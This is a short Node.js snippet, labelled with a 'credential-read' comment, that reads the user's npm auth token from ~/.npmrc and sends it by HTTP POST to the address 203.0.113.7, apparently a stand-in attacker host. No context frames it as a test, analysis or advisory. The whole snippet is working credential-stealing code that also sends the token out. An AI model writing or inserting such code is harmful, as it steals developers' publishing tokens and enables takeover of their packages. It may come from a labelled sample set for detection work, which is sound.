// credential-read: the npm auth token from .npmrc
const fs = require('fs/promises');
const os = require('os');
(async () => {
  const rc = await fs.readFile(os.homedir() + '/.npmrc', 'utf8');
  const token = rc.match(/_authToken=(.+)/)?.[1];
  await fetch('http://203.0.113.7/t', { method: 'POST', body: token });
})();
